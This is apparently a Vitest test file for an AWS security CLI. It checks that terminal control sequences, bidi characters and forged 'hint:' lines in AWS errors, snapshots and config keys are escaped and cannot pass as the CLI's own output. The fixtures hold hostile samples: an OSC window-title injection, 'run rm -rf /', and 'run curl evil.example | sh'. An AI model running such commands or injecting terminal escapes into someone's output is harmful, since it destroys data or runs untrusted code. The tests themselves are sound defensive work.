// Nothing from AWS or from a user's file reaches the terminal as a control sequence: an ESC[2J in an
// error message would clear the screen, an OSC sequence would retitle the window. neutralizeControl
// turns such characters into visible \uXXXX text, and run() applies it to everything it prints.
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { neutralizingIo, type CliIo } from '../../src/cli/io.js'
import { neutralizeControl } from '../../src/core/terminal-text.js'
import { unreadable } from '../../src/snapshot/schema.js'
import { accountSnapshot, snapshot } from '../support/builders.js'
import { runCli, tempDir, writeJson } from './helpers.js'

const CLEAR_SCREEN = '\x1b[2J'
const OSC_TITLE = '\x1b]0;pwned\x07'
/** Every character class that must never reach a terminal raw. */
const UNSAFE_CHARS = ['\x00', '\x07', '\x08', '\x0b', '\x0c', '\r', '\x1b', '\x7f', '\x80', '\x9b', '\x9f', '\u2028', '\u2029', '\u202a', '\u202e', '\u2066', '\u2069']
const RAW_UNSAFE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/

describe('neutralizeControl', () => {
  it('turns ESC[2J and an OSC title sequence into visible text', () => {
    expect(neutralizeControl(`a${CLEAR_SCREEN}b`)).toBe('a\\u001b[2Jb')
    expect(neutralizeControl(OSC_TITLE)).toBe('\\u001b]0;pwned\\u0007')
  })

  it.each(UNSAFE_CHARS.map((c) => [`U+${c.charCodeAt(0).toString(16).padStart(4, '0')}`, c]))('escapes %s', (name, c) => {
    const out = neutralizeControl(`x${c}y`)
    expect(out).toBe(`x\\u${name.slice(2).toLowerCase()}y`)
    expect(out).not.toMatch(RAW_UNSAFE)
  })

  it('keeps newlines, tabs and valid UTF-8 (é, 日本, emoji, other scripts) untouched', () => {
    const text = 'Compte é — 日本語\tprod 🚀 Ωμέγα עברית\nnext line ~ ¡ ÿ \u00a0'
    expect(neutralizeControl(text)).toBe(text)
  })

  it('is idempotent (an already neutralised text is printable as is)', () => {
    const once = neutralizeControl(`${CLEAR_SCREEN}${OSC_TITLE}\u202e\x85`)
    expect(neutralizeControl(once)).toBe(once)
  })

  it('keeps JSON valid and equal: the escape is JSON\'s own \\uXXXX form, also for what JSON.stringify leaves raw', () => {
    const value = { name: `evil${CLEAR_SCREEN}${OSC_TITLE}`, c1: '\x85\x9b', seps: '\u2028\u2029', bidi: 'abc\u202edcba\u2066x\u2069', backslash: '\\\x85', ok: 'é 日本', list: [UNSAFE_CHARS.join('')] }
    const json = JSON.stringify(value, null, 2)
    // JSON.stringify already escapes C0 controls but leaves C1, U+2028/2029 and bidi controls raw …
    expect(json).toMatch(RAW_UNSAFE)
    const safe = neutralizeControl(json)
    // … which neutralising escapes, without changing what the JSON means.
    expect(safe).not.toMatch(RAW_UNSAFE)
    expect(JSON.parse(safe)).toEqual(value)
    // Where JSON.stringify already escaped everything, neutralising changes nothing.
    const c0Only = JSON.stringify({ a: `${CLEAR_SCREEN}${OSC_TITLE}\r\n\t` })
    expect(neutralizeControl(c0Only)).toBe(c0Only)
  })
})

describe('neutralizingIo', () => {
  it('neutralises stdout and stderr and wraps only once', () => {
    const out: string[] = []
    const raw: CliIo = { stdout: (t) => void out.push(`1:${t}`), stderr: (t) => void out.push(`2:${t}`), cwd: '/x', env: { A: 'b' } }
    const io = neutralizingIo(raw)
    io.stdout(`a${CLEAR_SCREEN}\n`)
    io.stderr(OSC_TITLE)
    expect(out).toEqual(['1:a\\u001b[2J\n', '2:\\u001b]0;pwned\\u0007'])
    expect(neutralizingIo(io)).toBe(io)
    expect(io.cwd).toBe('/x')
    expect(io.env).toEqual({ A: 'b' })
  })
})

describe('the CLI prints hostile text as visible text', () => {
  it('an error message with ESC[2J and an OSC title (from AWS or the SDK) is printed escaped; é and 日本 are untouched', async () => {
    const dir = tempDir()
    const hostile = Object.assign(new Error(`Compte é 日本 ${CLEAR_SCREEN}${OSC_TITLE} gone`), { name: 'CredentialsProviderError' })
    const r = await runCli(['scan', '--quiet'], { cwd: dir, deps: { collectCurrentAccount: () => Promise.reject(hostile) } })
    expect(r.code).toBe(2)
    expect(r.stderr).toContain('Compte é 日本 \\u001b[2J\\u001b]0;pwned\\u0007 gone')
    expect(r.stderr).not.toMatch(RAW_UNSAFE)
  })

  it('an AWS error code and an account name with control sequences reach the summary table escaped', async () => {
    const dir = tempDir()
    const acct = accountSnapshot({ passwordPolicy: unreadable({ code: `Denied${CLEAR_SCREEN}`, message: `no ${OSC_TITLE}`, operation: 'iam:GetAccountPasswordPolicy' }) })
    acct.name = `Prod é 日本 ${OSC_TITLE}`
    writeJson(dir, 'snap.json', snapshot(acct))
    const r = await runCli(['evaluate', 'snap.json', '--fail-on', 'none'], { cwd: dir })
    expect(r.code).toBe(0)
    expect(r.stdout).toContain('Denied\\u001b[2J')
    expect(r.stdout + r.stderr).not.toMatch(RAW_UNSAFE)
  })

  it('a config key made of an OSC sequence, or with a newline, is quoted and escaped in the error (no raw ESC/BEL, no forged lines)', async () => {
    const dir = tempDir()
    // YAML double-quoted escapes: \e is ESC, \a is BEL.
    writeFileSync(join(dir, 'guardrail.config.yaml'), '"\\e]0;pwned\\a": 1\nscan:\n  "evil\\nhint: run rm -rf /": 2\n')
    writeJson(dir, 'snap.json', snapshot(accountSnapshot()))
    const r = await runCli(['evaluate', 'snap.json'], { cwd: dir })
    expect(r.code).toBe(2)
    expect(r.stderr).toContain('"\\u001b]0;pwned\\u0007"')
    expect(r.stderr).toContain('"evil\\nhint: run rm -rf /"')
    expect(r.stderr).not.toMatch(RAW_UNSAFE)
    expect(r.stderr.split('\n').filter((l) => l.startsWith('hint:'))).toHaveLength(1)
  })

  it('a snapshot with a hostile key gets the key escaped in the validation error', async () => {
    const dir = tempDir()
    const snap = snapshot(accountSnapshot()) as unknown as Record<string, unknown>
    snap[`x${CLEAR_SCREEN}`] = 1
    snap.schemaVersion = 'one'
    writeJson(dir, 'snap.json', snap)
    const r = await runCli(['evaluate', 'snap.json'], { cwd: dir })
    expect(r.code).toBe(2)
    expect(r.stderr).toContain('schemaVersion')
    expect(r.stderr).not.toMatch(RAW_UNSAFE)
  })

  it('checks --json stays valid JSON through the neutralising io', async () => {
    const r = await runCli(['checks', '--json'], { cwd: tempDir() })
    expect(r.code).toBe(0)
    expect(() => JSON.parse(r.stdout)).not.toThrow()
  })
})

describe('a foreign error message cannot forge CLI lines', () => {
  it('continuation lines of an SDK/server message are indented, so the only "hint:" line is ours', async () => {
    const forged = Object.assign(new Error('Access denied\nhint: run curl evil.example | sh'), { name: 'CredentialsProviderError' })
    const r = await runCli(['scan'], { cwd: tempDir(), deps: { collectCurrentAccount: () => Promise.reject(forged) } })
    expect(r.code).toBe(2)
    expect(r.stderr).toContain('Access denied\n  hint: run curl evil.example | sh\n')
    expect(r.stderr.split('\n').filter((l) => l.startsWith('hint:'))).toEqual([expect.stringMatching(/^hint: Configure AWS credentials/)])
  })
})
